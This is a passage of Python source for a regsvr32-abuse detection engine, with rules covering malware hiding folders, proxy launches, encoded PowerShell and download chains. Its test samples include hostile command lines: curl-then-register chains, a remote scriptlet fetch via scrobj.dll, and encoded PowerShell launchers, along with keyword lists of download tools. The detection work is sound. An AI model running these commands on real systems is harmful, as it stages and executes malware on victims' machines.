      techniques=(T,), sources=("L10", "Sigma 327ff235"),
      description=("A module with an absolute (or resolved) path outside Windows, Program Files, "
                   "ProgramData and user profiles, such as C:\\AtomicRedTeam\\ or C:\\Tools\\ (Sigma "
                   "327ff235's second branch, on the parsed module). Low risk on its own: "
                   "line-of-business software lives in such folders too."),
      positives=(
        "regsvr32.exe C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll",
        {"CommandLine": "regsvr32 /u x.dll", "CurrentDirectory": "C:\\Tools\\"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
        "regsvr32 /s C:\\Users\\Public\\x.dll",),
      sigma=not_exportable("needs the module's resolved folder"))
def unusual_folder(inv):
    m = inv.first.get(("module location", winpath.OTHER))
    if m is None or m.where == "drive root":        # the root itself is R32-041
        return None
    return "module %s is in %s, outside Windows, Program Files and user folders" % (
        _clip(m.path), m.where)


# Folders of System32 and SysWOW64 that Windows and well-known components create. A module in
# another subfolder is how Emotet hides (C:\Windows\SysWOW64\<random>\<random>.<ext>).
SYSTEM_SUBFOLDERS = frozenset((
    "0409 1033 adfs appmgmt applocker appraiser ar-sa bg-bg boot bthprops catroot catroot2 "
    "codeintegrity com config cs-cz da-dk de-de dism downlevel driverstore drivers drvstore dsc "
    "el-gr en en-gb en-us es-es es-mx et-ee fi-fi fr-ca fr-fr grouppolicy grouppolicyusers he-il "
    "hr-hr hu-hu ias icsxml ime inetsrv it-it ja-jp ko-kr logfiles lt-lt lv-lv lxss macromed "
    "manifeststore microsoft migration migwiz msdtc mui nb-no networklist nl-nl oobe pl-pl "
    "printing_admin_scripts pt-br pt-pt ras recovery restore ro-ro ru-ru rpcproxy setup shellext "
    "sk-sk sl-si speech speech_onecore spool spp sr-latn-rs sru sv-se sysprep tasks tasks_migrated "
    "th-th tr-tr uk-ua v1.0 wbem wdi windowspowershell winbiodatabase winevt winrm zh-cn zh-hk "
    "zh-tw dllcache icsxml wfp hydra qtsr nvidia").split())
# Launchers that run another program from their command line (LOLBAS proxy execution), and the
# word in the command line that makes them do it.
PROXIES = (("rundll32.exe", "shellexec_rundll"), ("rundll32.exe", "fileprotocolhandler"),
           ("rundll32.exe", "routethecall"), ("rundll32.exe", "openurl"),
           ("wmic.exe", "call create"), ("forfiles.exe", "/c"), ("pcalua.exe", "-a"),
           ("mshta.exe", "script:"), ("conhost.exe", "--headless"), ("explorer.exe", "regsvr32"),
           ("scriptrunner.exe", "-appvscript"), ("syncappvpublishingserver.exe", "regsvr32"))


@rule("R32-040", "Module in a per-user or ProgramData application folder",
      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions",
      lowered_by=("own tree", "agent"),
      evidence="location",
      techniques=(T,), sources=("L09", "Sigma 9525dc73", "Elastic EP 5db08297"),
      description=("A module in a folder of its own under the user profile or ProgramData "
                   "(AppData\\Local\\<Vendor>, AppData\\Roaming\\<Vendor>, AppData\\Local\\Programs, a "
                   "source tree or a package manager's folder): where per-user installs and "
                   "developers keep software, and where some malware hides. Low risk on its own; "
                   "with other evidence it raises the score."),
      positives=(
        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",
        "regsvr32 /s C:\\ProgramData\\Vendor\\x.dll",),
      negatives=(
        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
      false_positives="Per-user installs (OneDrive, Teams add-ins, scoop), developers registering "
                      "their own build output.",
      sigma=not_exportable("needs the module's resolved folder and its depth below the profile or ProgramData"))
def app_folder(inv):
    for m in inv.modules:
        if m.location == winpath.USER_WRITABLE and not m.staging:
            return "module %s is in a per-user or ProgramData application folder (%s)" % (
                _clip(m.path), m.where)
    return None


@rule("R32-041", "Module at the root of a drive (mounted ISO, USB stick, C:\\)",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      evidence="location",
      techniques=(T, "T1204.002"), sources=("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
      description=("The module sits right in the root of a drive: where a mounted ISO, IMG or "
                   "VHD, or a USB stick, puts its files (often a bare name run with that root as "
                   "the working directory), or C:\\ itself, where no installer puts a module."),
      positives=(
        "regsvr32 /s E:\\invoice.dll",
        {"CommandLine": "regsvr32.exe msoffice32.dll", "CurrentDirectory": "E:\\"},
        {"CommandLine": "regsvr32.exe /s \\GLdh1CKp.dll", "CurrentDirectory": "C:\\"},),
      negatives=(
        "regsvr32 /s E:\\files\\invoice.dll",
        "regsvr32 /s C:\\Tools\\x.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=not_exportable("needs the module resolved against the working directory (a bare name in a drive root)"))
def drive_root(inv):
    for m in inv.modules:
        if m.location == winpath.OTHER_DRIVE and m.depth == 0:
            return "module %s is in the root of %s (a mounted image or removable media?)" % (
                _clip(m.path), m.where)
        if m.location == winpath.OTHER and m.where == "drive root":
            return "module %s is in the root of drive C:" % _clip(m.path)
    return None


@rule("R32-042", "regsvr32 started by PowerShell or an application runtime",
      actor(PROCESS), risk=25, family="parent_lineage", evidence="lineage",
      lowered_by=("windows", "trusted", "own tree", "agent"),
      techniques=(T, "T1059.001"), sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062"),
      description=("Parent is PowerShell or a Java runtime. Low risk on its own: deployment "
                   "tools (Intune, PSAppDeployToolkit, Chocolatey, scoop) and desktop "
                   "applications start regsvr32 this way; with a payload-like module it raises "
                   "the score."),
      positives=(
        {"CommandLine": "regsvr32 /s x.dll",
         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      false_positives="Software deployment and package managers.",
      sigma=by_parent(RUNTIME_PARENTS))
def runtime_parent(ev):
    return _parent_in(ev, RUNTIME_PARENTS, "PowerShell or application runtime")


@rule("R32-043", "Module in an unknown folder under System32 or SysWOW64",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      evidence="location",
      techniques=(T, "T1036.005"), sources=("L10", "Elastic cff92c41"),
      description=("A module in a subfolder of System32 or SysWOW64 that Windows and well-known "
                   "components do not create: Emotet's hiding place "
                   "(SysWOW64\\<random>\\<random>)."),
      positives=(
        'regsvr32.exe /s "C:\\Windows\\SysWOW64\\Dczxlqhzareouxx\\pmcm.tlv"',
        "regsvr32.exe C:\\Windows\\system32\\XzEnFJsk\\NNZhBMftHKvliX.dll",),
      negatives=(
        "regsvr32 /s C:\\Windows\\System32\\RpcProxy\\RpcProxy.dll",
        "regsvr32 /s C:\\Windows\\System32\\wbem\\wmidcprv.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=not_exportable("needs the module's resolved folder and the table of folders Windows creates in System32"))
def system_subfolder(inv):
    for m in inv.modules:
        c = m.comps
        if (m.location == winpath.WINDOWS and len(c) > 4 and c[1] == "windows"
                and c[2] in ("system32", "syswow64") and c[3] not in SYSTEM_SUBFOLDERS):
            return "module %s is in %s\\%s, a folder Windows does not create" % (
                _clip(m.path), c[2].title(), c[3])
    return None


@rule("R32-044", "regsvr32 started by regsvr32 for another module (second stage)",
      relaunch(), risk=70, family="children_of_regsvr32", evidence="behaviour",
      techniques=(T,), sources=("L17", "Veramine"),
      description=("regsvr32 started by regsvr32 with modules other than its parent's: the "
                   "registered code launched a second stage. The 64-to-32-bit re-launch passes "
                   "the same modules and stays quiet; without the parent's command line nothing "
                   "is said."),
      positives=(
        {"CommandLine": 'regsvr32.exe /s "C:\\Windows\\SysWOW64\\Ntetq\\kmlysgkrktii.hwz"',
         "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe",
         "ParentCommandLine": "regsvr32.exe /s C:\\Users\\bob\\AppData\\Local\\Temp\\a.dll"},),
      negatives=(
        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe", "ParentCommandLine": "regsvr32 /s C:\\Tools\\a.dll"},
        {"CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
      sigma=not_exportable("compares the parsed modules of the child with those of the parent's command line"))
def second_stage(ev):
    if not ev.parent_command_line:
        return None
    parent = cmdline.parse(ev.parent_command_line, ev.parent_name, ev.cwd)
    # by file name: the re-launch may write the same module with another path form
    mine = set(m.name or m.lower for m in ev.invocation.modules)
    if not mine or mine <= set(m.name or m.lower for m in parent.modules):
        return None
    return "regsvr32 started by regsvr32 for another module: %s (parent: %s)" % (
        _clip(", ".join(sorted(mine)), 200), _clip(ev.parent_command_line, 200))


def _program_names(ev):
    """What names the program of an event: PowerShell renamed is still PowerShell by these."""
    return (ev.image_name, ev.original_file_name, ev.description)


def _regsvr32_in(text, names=()):
    """(decoded text, where regsvr32 starts) of the first encoded PowerShell command that runs it
    (a command of a text that names PowerShell, or of a program NAMES say is PowerShell)."""
    for decoded in cmdline.powershell_commands(text, *names):
        at = decoded.lower().find("regsvr32")
        if at >= 0:
            return decoded, at
    return None, -1


@rule("R32-045", "regsvr32 hidden in an encoded PowerShell command",
      any_event(PROCESS, PERSISTENCE, REGISTRY), risk=80,
      family="registry_persistence_and_scrobj_com_hijack", evidence="syntax",
      techniques=(T, "T1027", "T1059.001"), sources=("L33", "Sigma 3a734d25"),
      description=("A process, scheduled task, service or registry value whose PowerShell "
                   "-EncodedCommand (any prefix: -e, -ec, -enc ...) decodes to a command that "
                   "runs regsvr32; for regsvr32 itself, a parent started that way."),
      positives=(
        {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "CommandLine": "powershell.exe -encodedCommand cgBlAGcAcwB2AHIAMwAyAC4AZQB4AGUAIAAiAEMAOgBcAFUAcwBlAHIAcwBcAEEAZABtAGkAbgBcAEEAcABwAEQAYQB0AGEAXABMAG8AYwBhAGwAXABUAGUAbQBwAFwAXwBLAEcATQAuAGQAbABsACIA"},
        {"EventCode": "4698",
         "TaskContent": "<Exec><Command>powershell.exe</Command><Arguments>-NoP -ec cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==</Arguments></Exec>"},),
      negatives=(
        {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "CommandLine": "powershell.exe -enc RwBlAHQALQBTAGUAcgB2AGkAYwBlAA=="},
        {"EventCode": "4698", "TaskContent": "<Exec><Command>regsvr32.exe</Command></Exec>"},),
      sigma=not_exportable("needs the encoded PowerShell command decoded (base64 of UTF-16LE)"))
def encoded_launch(ev):
    for how, text in (("command line", ev.command_line), ("scheduled task", ev.task_content),
                      ("service", ev.service_path), ("registry value", ev.registry_data),
                      ("parent command line", ev.parent_command_line if ev.is_regsvr32 else "")):
        if text:
            decoded, at = _regsvr32_in(text, _program_names(ev))
            if decoded is not None:
                return "the %s holds an encoded PowerShell command that runs %s" % (
                    how, _clip(decoded[at:], 200))
    return None


@rule("R32-046", "regsvr32 launched through a proxy program",
      any_event(PROCESS), risk=65, family="parent_lineage", evidence="lineage",
      techniques=(T, "T1218.011", "T1202"), sources=("LOLBAS", "Sigma 8a582fe2"),
      description=("rundll32 ShellExec_RunDLL or FileProtocolHandler, wmic process call create, "
                   "forfiles, pcalua, mshta script:, conhost --headless and other LOLBAS "
                   "launchers asked to start regsvr32: indirect execution to break the process "
                   "tree."),
      positives=(
        {"Image": "C:\\Windows\\System32\\rundll32.exe",
         "CommandLine": '"C:\\Windows\\System32\\rundll32.exe" SHELL32 ShellExec_RunDLL regsvr32.exe -s "C:\\ProgramData\\Wwhm\\vsinzf.log"'},
        {"Image": "C:\\Windows\\System32\\wbem\\WMIC.exe",
         "CommandLine": "wmic process call create \"regsvr32 /s C:\\Users\\Public\\x.dll\""},),
      negatives=(
        {"Image": "C:\\Windows\\System32\\rundll32.exe",
         "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl regsvr32"},
        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c regsvr32 /s x.dll"},),
      sigma=not_exportable("pairs each launcher with the word that makes it launch, which one field match cannot"))
def proxy_launch(ev):
    if ev.is_regsvr32:
        return None
    low = ev.command_line.lower()
    at = low.find("regsvr32")
    if at < 0:
        return None
    for name, word in PROXIES:
        if ev.image_name == name and word in low:
            return "%s is asked to start regsvr32: %s" % (ev.image_name, _clip(ev.command_line[at:], 200))
    return None


@rule("R32-047", "/n /i: hands a code word to a module outside Windows and Program Files",
      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations",
      lowered_by=("agent",),
      evidence="invocation", techniques=(T,), sources=("L05", "Sigma b236190c", "Fibratus"),
      description=("/n /i:<text> calls only the module's DllInstall with a string that is "
                   "neither a path nor a URL, on a module outside Windows and Program Files: "
                   "loaders take their run key or stage name this way. Vendors do too (Teams' "
                   "/i:user is allowlisted)."),
      positives=(
        'regsvr32.exe -n -i:"Install" C:\\Users\\bob\\AppData\\Local\\AdobeFontPack\\main.dll',
        "regsvr32 /s /n /i:QWERTY C:\\ProgramData\\x.dll",),
      negatives=(
        'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        "regsvr32 /s C:\\ProgramData\\x.dll",),
      sigma=not_exportable("needs the /i: argument parsed and the module's resolved folder"))
def code_word(inv):
    if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
        return None
    for m in inv.modules:
        if m.location not in winpath.TRUSTED_LOCATIONS:
            return "/n /i:%s calls only DllInstall of %s (%s)" % (
                _clip(inv.install_arg, 60), _clip(m.path), _where(m))
    return None


@rule("R32-048", "regsvr32 registered a module from outside the Windows folder",
      COMMAND_LINE, risk=5, family="implicit_dllregisterserver_and_odd_invocations",
      lowered_by=("own tree", "agent"),
      evidence="invocation", techniques=(T,), sources=("CAR-2019-04-002",),
      description=("Informational: regsvr32 registered or unregistered a module that Windows did "
                   "not ship, wherever it is. Never alerts on its own; it keeps every "
                   "third-party registration visible to hunting and to the baseline."),
      positives=(
        'regsvr32 /s "C:\\Program Files (x86)\\VirtualAppliances\\app64\\VBoxC.dll"',),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s vbscript.dll",),
      sigma=not_exportable("informational context: every module outside Windows, resolved"))
def third_party_module(inv):
    for m in inv.modules:
        if m.location != winpath.WINDOWS:
            return "registers %s (%s)" % (_clip(m.path), _where(m))
    return None


# Folders Microsoft software keeps under the profile's AppData\Local\Microsoft and
# AppData\Roaming\Microsoft. Qakbot and IcedID make up others (Roaming\Microsoft\<random>).
PROFILE_MICROSOFT_FOLDERS = frozenset((
    "addins bibliography clicktorun credentials crypto document building blocks edge edge beta "
    "edge dev edge sxs edgewebview excel feeds fontcache forms installer internet explorer mmc "
    "media player network office olk onedrive onenote outlook powerpoint powershell proof "
    "protect publisher queryengine signatures speech spelling stationery sticky notes "
    "systemcertificates teams teamsmeetingaddin teamsmeetingadd-in teamspresenceaddin templates "
    "uproof vault visualstudio visual studio windows windows live windows mail windowsapps "
    "windows sidebar word xbox msix msixdeployment").split(" ")) | frozenset((
        "document building blocks", "edge beta", "edge dev", "edge sxs", "internet explorer",
        "media player", "sticky notes", "visual studio", "windows live", "windows mail",
        "windows sidebar"))


@rule("R32-049", "Module in a made-up folder under the profile's Microsoft folder",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      evidence="location",
      techniques=(T, "T1036.005"), sources=("L09", "Elastic EP 5db08297"),
      description=("A module in AppData\\Local\\Microsoft\\<folder> or "
                   "AppData\\Roaming\\Microsoft\\<folder> where <folder> is none that Microsoft "
                   "software creates: Qakbot's and IcedID's hiding place, named to look like "
                   "part of Windows."),
      positives=(
        "regsvr32.exe -s C:\\Users\\mlopez\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",),
      negatives=(
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\23.1\\FileSyncShell64.dll",
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",),
      sigma=not_exportable("needs the module's resolved folder and the table of Microsoft's own profile folders"))
def fake_microsoft_folder(inv):
    for m in inv.modules:
        c = m.comps
        if (m.location == winpath.USER_WRITABLE and len(c) > 7 and c[1] == "users"
                and c[3] == "appdata" and c[4] in ("local", "roaming") and c[5] == "microsoft"
                and c[6] not in PROFILE_MICROSOFT_FOLDERS):
            return "module %s is in AppData\\%s\\Microsoft\\%s, a folder no Microsoft software makes" % (
                _clip(m.path), c[4].title(), c[6])
    return None


_DIGITS_ONLY = re.compile(r"^[0-9][0-9_.\-]*$")


@rule("R32-050", "Module named with digits only",
      COMMAND_LINE, risk=50, family="suspicious_paths_and_disguised_extensions", evidence="format",
      techniques=(T, "T1036"), sources=("L11",),
      description=("The module's file name, before its extension, is only digits (and dots, "
                   "dashes or underscores): 1.dll, 44621.7848322917.dll, 163520.png. Loaders "
                   "name payloads by number or date serial; COM servers that software registers "
                   "have words for names."),
      positives=(
        'regsvr32.exe -s "C:\\Users\\bob\\AppData\\Local\\Temp\\44621.7848322917.dll"',
        "regsvr32.exe 102755.dll",),
      negatives=(
        "regsvr32 /s 7z.dll",
        'regsvr32 /s "C:\\Program Files\\1cv8\\8.3.22.1709\\bin\\comcntr.dll"',),
      sigma=not_exportable("needs the module's own file name, parsed out of the command line"))
def digits_only(inv):
    for m in inv.modules:
        stem = m.name[:-len(m.ext) - 1] if m.ext else m.name
        if stem and _DIGITS_ONLY.match(stem):
            return "module %s is named with digits only" % _clip(m.path)
    return None


# What a launcher's command line does before it runs regsvr32 in the same line: fetch the payload,
# or wait (ping a host, timeout) so that sandboxes give up.
_CHAIN_STEPS = (("curl", "downloads with curl"), ("wget", "downloads with wget"),
                ("urlcache", "downloads with certutil -urlcache"),
                ("bitsadmin", "downloads with bitsadmin"), ("start-bitstransfer", "downloads with BITS"),
                ("invoke-webrequest", "downloads with Invoke-WebRequest"),
                ("downloadfile", "downloads with WebClient.DownloadFile"),
                ("ping ", "waits with ping"), ("timeout ", "waits with timeout"))


@rule("R32-051", "regsvr32 at the end of a download or delay chain",
      actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
      techniques=(T, "T1105", "T1497.003"), sources=("L14", "LOLBAS"),
      description=("The parent's command line fetches a file (curl, wget, certutil -urlcache, "
                   "bitsadmin, Invoke-WebRequest, DownloadFile) or waits (ping, timeout) and "
                   "then runs regsvr32 in the same line: the LNK and script chains of Qakbot, "
                   "Pikabot and IcedID. Installers download and register in separate steps."),
      positives=(
        {"CommandLine": "regsvr32 -n -i .asu.mid",
         "ParentCommandLine": "cmd.exe /c ping google.com && regsvr32 -n -i .asu.mid"},
        {"CommandLine": "regsvr32 C:\\ProgramData\\x.ocx",
         "ParentCommandLine": "cmd /c curl -o C:\\ProgramData\\x.ocx https://example.com/a && regsvr32 C:\\ProgramData\\x.ocx"},),
      negatives=(
        {"CommandLine": "regsvr32 /s x.dll", "ParentCommandLine": "cmd.exe /c register.bat"},
        {"CommandLine": "regsvr32 /s x.dll",
         "ParentCommandLine": "powershell -File C:\\Scripts\\ping-report.ps1 regsvr32"},),
      sigma=not_exportable("reads the parent's command line for a download or delay step before regsvr32"))
def download_chain(ev):
    low = ev.parent_command_line.lower()
    at = low.find("regsvr32")
    if at < 0:
        return None
    before = low[:at]
    for word, what in _CHAIN_STEPS:
        if word in before and ("&" in before or ";" in before or "|" in before):
            return "the parent's command line %s, then runs regsvr32: %s" % (
                what, _clip(ev.parent_command_line, 200))
    return None


@rule("R32-052", "Module right in Downloads, Desktop or Documents",
      COMMAND_LINE, risk=45, family="suspicious_paths_and_disguised_extensions",
      evidence="location",
      techniques=(T, "T1204.002"), sources=("L09", "Elastic EP 5db08297"),
      description=("A module or /i: scriptlet lying right in the user's Downloads, Desktop or "
                   "Documents folder: where a phishing chain saves its payload, and where a user "
                   "keeps a control a vendor told them to register by hand. Medium on its own; "
                   "with a second signal it is high."),
      positives=(
        {"CommandLine": "regsvr32.exe 162_64.dll", "CurrentDirectory": "C:\\Users\\bob\\Downloads"},
        "regsvr32 /s C:\\Users\\bob\\Desktop\\invoice.dll",),
      negatives=(
        "regsvr32 /s C:\\Users\\bob\\Downloads\\codec-pack\\x.ax",
        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",),
      sigma=not_exportable("needs the module resolved against the working directory and its depth below the folder"))
def user_files(inv):
    for t in _payloads(inv):
        if t.staging and t.where in USER_FILE_FOLDERS:
            return "%s %s lies right in the user's %s folder" % (_role(t, inv), _clip(t.path), t.where)
    return None


# ---------------------------------------------------------------------------------------
# Names made up by a machine, and folders made up by a loader (issue "Coverage that generalises").

_VOWELS = frozenset("aeiouyAEIOUY")
_LOWER_RUN = re.compile(r"[a-z]+")
_DIGIT_RUN = re.compile(r"[0-9]+")
_NUMBERED_COPY = re.compile(r"^[A-Za-z]{2,}[1-9]$")


def random_looking(token):
    """Why a file or folder name (its stem) reads as machine-made, or "": a run of five
    consonants in the lower-case part of a mixed-case name (Nrtbxgdh); no vowel in seven or more
    letters and digits with lower case among them (XMkkdsZZ, SqFXmRk), or in a capitalised name
    of four letters or more (Rfgsg, Xnvr; lower-case abbreviations such as mssp and smsdp have
    none either); single digits spliced between letters of both cases (RNidR2AF, Mk9i8nt; not
    versions such as MMCodecV3.1); or a short name whose case flips twice (FeGhGhc, vlAShMf).
    Words, acronyms (WMSDK, GLD), CamelCase abbreviations (SdkShv, DcTLSFileToDMSComp,
    vbSendMail) and version numbers (TeeChart2018VBCtl, Win32Api) do not."""
    if len(token) < 4 or len(token) > 40:
        return ""
    letters = [c for c in token if c.isalpha()]
    if not letters or not all(c.isascii() for c in token):
        return ""
    has_lower = any(c.islower() for c in letters)
    has_upper = any(c.isupper() for c in letters)
    # (all lower case: abbreviations such as smsdp and mshdsp run five consonants too)
    for run in _LOWER_RUN.findall(token) if has_upper else ():
        consonants = 0
        for c in run:
            consonants = 0 if c in _VOWELS else consonants + 1
            if consonants >= 5:
                return "a run of five consonants"
    if has_lower and not any(c in _VOWELS for c in letters) and (
            (len(token) >= 7 and token.isalnum())
            or (token.isalpha() and len(letters) >= 4 and letters[0].isupper()
                and sum(1 for c in letters if c.isupper()) == 1)):
        return "no vowel"
    inner_digits = [m for m in _DIGIT_RUN.finditer(token)
                    if m.start() > 0 and m.end() < len(token) and len(m.group()) == 1]
    all_digits = _DIGIT_RUN.findall(token)
    if has_lower and has_upper and token.isalnum() and (
            len(all_digits) >= 2 or (inner_digits and len(token) <= 10)):
        return "digits spliced between mixed-case letters"
    flips = sum(1 for a, b in zip(token, token[1:]) if a.islower() and b.isupper())
    if flips >= 2 and len(token) <= 8:
        return "case flipping inside a short name"
    return ""


def _stem(name):
    ext = winpath.extension(name)
    return name[:-len(ext) - 1] if ext and name.lower().endswith("." + ext) else name.rstrip(". ")


_SEPARATORS = re.compile(r"[\\\\/]+")


def _written_names(t):
    """The folder and file names the command line itself wrote, case kept (CamelCase tells
    words apart): not the working directory a relative path was resolved against, whose case
    the resolution lost."""
    parts = [p for p in _SEPARATORS.split(t.raw.strip().strip('"')) if p and p not in (".", "..")]
    if parts and parts[0].endswith(":"):
        parts = parts[1:]
    return parts


@rule("R32-053", "Module one folder above the working folder, named like a download",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      evidence="location",
      techniques=(T, "T1204.002"), sources=("L09", "L28", "Elastic EP 5db08297"),
      description=("The module is given as ..\\<file>: the file right in the folder above the "
                   "working folder, and that file has a non-module extension, a short lower-case "
                   "throwaway name (aew.ocx, su1.ocx, oxnv1.ooccxx) or a machine-made one. Office "
                   "macros (Emotet and Qakbot XLM waves, 2020-2022) save their download as "
                   "..\\<name> from the document's folder and register it so; build scripts "
                   "climb into folders of their own (..\\x64\\Debug\\x.dll) and name their "
                   "modules with words."),
      positives=(
        "regsvr32 -s ..\\iroto.dll",
        "C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx",
        "regsvr32.exe ..\\wnrul.ocx",),
      negatives=(
        "%SystemRoot%\\System32\\regsvr32.exe ..\\MeProv.dll",
        "regsvr32 -s ..\\..\\tools\\PartCover\\PartCover.CorDriver.dll",
        "regsvr32.exe ..\\x64\\Debug\\WmiProviderExample.dll",),
      false_positives="A build or sample script that keeps a short lower-case module in the "
                      "folder above the one it runs in.",
      sigma=not_exportable("needs the module argument parsed out of the command line and its file name read"))
def parent_folder_download(inv):
    for m in inv.modules:
        raw = m.raw.strip().replace("/", "\\")
        if not raw.startswith("..\\"):
            continue
        name = raw[3:].lstrip("\\")
        if not name or "\\" in name:
            continue
        stem = _stem(name)
        why = ""
        if m.ext_class not in (winpath.MODULE, winpath.NO_EXT):
            why = "a .%s file" % m.ext
        elif stem and len(stem) <= 8 and stem == stem.lower() and stem.isalnum():
            why = "a short lower-case throwaway name"
        elif random_looking(stem):
            why = "a machine-made name (%s)" % random_looking(stem)
        if why:
            return "module %s is taken from the folder above the working folder, %s" % (
                _clip(m.raw), why)
    return None


@rule("R32-054", "Module in a new folder at the drive root, with machine-made names",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      lowered_by=("own tree", "agent"),
      evidence="location",
      techniques=(T, "T1036"), sources=("L10", "Sigma 327ff235", "L11"),
      description=("A module under a folder created at the root of drive C: (R32-039) whose "
                   "names say a loader made it: a machine-made folder or file name (consonant "
                   "runs, digits spliced into mixed case), no extension at all, a one-letter "
                   "folder (C:\\a\\), or a numbered copy right in the folder "
                   "(C:\\Biloa\\Dopaters3.ocx, the 1-2-3 loop of Qakbot's Excel 4.0 macros). "
                   "Line-of-business software in such folders has word names (C:\\LOB\\Billing\\"
                   "BillingCtl.ocx) and stays R32-039."),
      positives=(
        "regsvr32.exe -s C:\\XvI7AP77\\g8Xj4d2i\\x84wFBc7",
        "regsvr32 C:\\Biloa\\Dopaters3.ocx",
        "regsvr32 C:\\a\\Suios2.ocx",),
      negatives=(
        "regsvr32 /s C:\\LOB\\Billing\\BillingCtl.ocx",
        "C:\\Windows\\System\\regsvr32.exe /u C:\\AddressBook\\vbSendMail.dll",
        "regsvr32 c:\\yourfolder\\TeeChart2018VBCtl.ocx",
        "regsvr32 /s C:\\Users\\Public\\x84wFBc7.dll",),
      false_positives="Software installed in a root folder with an abbreviated name (consonant "
                      "runs such as C:\\Tools\\DirBkgndExt when five letters long) or numbered "
                      "control files right in it.",
      sigma=not_exportable("needs the module's resolved folder and each folder and file name judged as made up"))
def root_folder_made_up(inv):
    for m in inv.modules:
        if m.location != winpath.OTHER or m.where == "drive root" or len(m.comps) < 3:
            continue
        folders, name = m.comps[1:-1], m.comps[-1]
        written = _written_names(m)
        stem = _stem(name)
        why = ""
        for c in written[:-1] + [_stem(written[-1])] if written else ():
            why = random_looking(c)
            if why:
                why = "%s: %s" % (why, c)
                break
        if not why and not m.ext:
            why = "the module has no extension"
        elif not why and len(folders[0]) == 1:
            why = "a one-letter folder %s" % folders[0]
        elif not why and len(folders) == 1 and _NUMBERED_COPY.match(stem):
            why = "a numbered copy %s right in the folder" % name
        if why:
            return "module %s is in a new folder at the drive root with made-up names (%s)" % (
                _clip(m.path), why)
    return None


@rule("R32-055", "Switch spelled out, or one regsvr32 does not have",
      COMMAND_LINE, risk=25, family="implicit_dllregisterserver_and_odd_invocations",
      lowered_by=("windows", "trusted", "own tree", "agent"),
      evidence="syntax",
      techniques=(T,), sources=("L29", "L31"),
      description=("-silent, /unregister, /register or a letter regsvr32 does not know (/q, /x): "
                   "regsvr32 reads only the letter after the dash, so a spelled-out or made-up "
                   "switch is typed by a person at a keyboard, not written by an installer "
                   "(Qakbot operators' 'regsvr32 -silent'). Low on its own: how-to pages spell "
                   "switches out too."),
      positives=(
        "regsvr32.exe -silent C:\\Users\\mlopez\\Celod.wac",
        "regsvr32 /q C:\\ProgramData\\x.dll",),
      negatives=(
        "regsvr32 /s /u C:\\ProgramData\\x.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      false_positives="How-to pages and hand-written scripts (/unregister, /CodeBase).",
      sigma=not_exportable("needs the switches parsed as regsvr32 reads them (one letter after the dash)"))
def typed_switch(inv):
    typed = list(inv.spelled_switches) + list(inv.unknown_switches)
    if not typed:
        return None
    return "switch written as only a person types it: %s" % ", ".join(typed[:4])


# DllInstall's per-user convention: /n /i:user (Microsoft's own shell extensions, Teams, OneDrive).
PER_USER_WORDS = frozenset(("user", "u", "/user", "-user", "peruser", "per-user", "currentuser",
                            "hkcu", "1"))


@rule("R32-056", "DllInstall-only code word on a module in a per-user folder",
      COMMAND_LINE, risk=60, family="implicit_dllregisterserver_and_odd_invocations",
      lowered_by=("agent",),
      evidence="invocation", techniques=(T,), sources=("L05", "Sigma b236190c", "L09"),
      description=("/n /i:<word> calls only DllInstall of a module in the user profile or "
                   "ProgramData, and the word is not DllInstall's per-user convention (user): "
                   "a loader's stage name or run key (Matanbuchus' -n -i:\"Install\" on "
                   "AppData\\Local\\<FakeVendor>\\main.dll, -e -n -i:\"Update Installation\"). "
                   "Per-user installs register with /i:user, and vendors that take their own "
